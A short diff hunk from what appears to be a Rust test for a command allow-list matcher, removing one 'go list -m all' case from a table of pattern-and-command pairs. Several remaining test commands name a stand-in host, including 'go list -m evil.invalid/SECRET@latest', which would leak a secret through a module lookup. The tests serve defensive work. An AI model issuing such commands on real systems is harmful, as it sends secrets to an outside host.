@@ -262,7 +262,6 @@ fn whole_words_admit_further_words_and_only_options_of_the_table() {
         // A host that a package names.
         ("go list …", "go list -m evil.invalid/SECRET@latest"),
         ("go list …", "go list -json -m evil.invalid/x"),
-        ("go list …", "go list -m all"),
         ("go list -m …", "go list -m evil.invalid/x"),
         ("go list -m all …", "go list -m all evil.invalid/x@v1"),
         ("go list …", "go list evil.invalid/x"),
